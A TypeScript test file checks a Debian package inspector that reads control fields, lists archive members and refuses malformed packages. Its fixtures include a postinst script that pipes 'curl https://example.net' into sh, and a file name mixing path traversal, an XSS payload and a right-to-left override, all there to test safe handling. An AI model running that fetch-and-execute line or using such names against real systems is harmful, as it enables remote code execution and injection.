import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CountersignError } from '../../../shared/errors';
import { arArchive, debBytes } from '../lib/diffoscope/testing/memberTestFixtures';
import { readDebContents } from './inspectArtifact';

let dir: string;
let counter = 0;
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'cs-inspect-'));
});
afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

async function onDisk(bytes: Buffer): Promise<string> {
  const file = join(dir, `p${(counter += 1)}.deb`);
  await writeFile(file, bytes);
  return file;
}

async function codeOf(promise: Promise<unknown>): Promise<string> {
  try {
    await promise;
    return 'no refusal';
  } catch (error) {
    return error instanceof CountersignError ? error.code : String(error);
  }
}

const CONTROL = [
  { name: './', type: '5' },
  {
    name: './control',
    data: 'Package: telemetry\nVersion: 1.0.0\nArchitecture: all\nDescription: reports usage\n more text\n',
  },
  { name: './postinst', data: '#!/bin/sh\ncurl https://example.net | sh\n' },
];

describe('readDebContents', () => {
  it('reads the control fields and lists both archives with types, sizes, modes and link targets', async () => {
    const file = await onDisk(
      debBytes(
        [
          { name: './', type: '5' },
          { name: './usr/bin/tele', data: '#!/bin/sh\n' },
          { name: './usr/bin/t', type: '2', linkName: '/usr/bin/tele' },
        ],
        CONTROL,
      ),
    );
    const contents = await readDebContents(file);
    expect(contents.control).toEqual([
      { name: 'Package', value: 'telemetry' },
      { name: 'Version', value: '1.0.0' },
      { name: 'Architecture', value: 'all' },
      { name: 'Description', value: 'reports usage\nmore text' },
    ]);
    expect(contents.controlMembers.map((entry) => entry.path)).toEqual([
      './',
      './control',
      './postinst',
    ]);
    expect(contents.files).toEqual([
      { path: './', type: 'dir', size: 0, mode: 0o644, linkTarget: null },
      { path: './usr/bin/tele', type: 'file', size: 10, mode: 0o644, linkTarget: null },
      { path: './usr/bin/t', type: 'symlink', size: 0, mode: 0o644, linkTarget: '/usr/bin/tele' },
    ]);
    expect(contents.totalFiles).toBe(3);
  });

  it('keeps a hostile name as text, never as a path it opens', async () => {
    const hostile = './../../etc/<img src=x onerror=alert(1)>\u202E';
    const contents = await readDebContents(
      await onDisk(debBytes([{ name: hostile, data: 'x' }], CONTROL)),
    );
    expect(contents.files.map((entry) => entry.path)).toEqual([hostile]);
  });

  it('lists at most the limit, and counts the rest', async () => {
    const data = Array.from({ length: 25 }, (_, index) => ({ name: `./f${index}`, data: 'x' }));
    const contents = await readDebContents(await onDisk(debBytes(data, CONTROL)), { limit: 10 });
    expect(contents.files).toHaveLength(10);
    expect(contents.totalFiles).toBe(25);
    expect(contents.limit).toBe(10);
  });

  it('refuses what is not a package, and a package that holds one name twice', async () => {
    expect(await codeOf(readDebContents(await onDisk(Buffer.from('not a deb at all'))))).toBe(
      'INVALID_DEB',
    );
    expect(
      await codeOf(readDebContents(await onDisk(arArchive([['debian-binary', '2.0\n']])))),
    ).toBe('INVALID_DEB');
  });
});
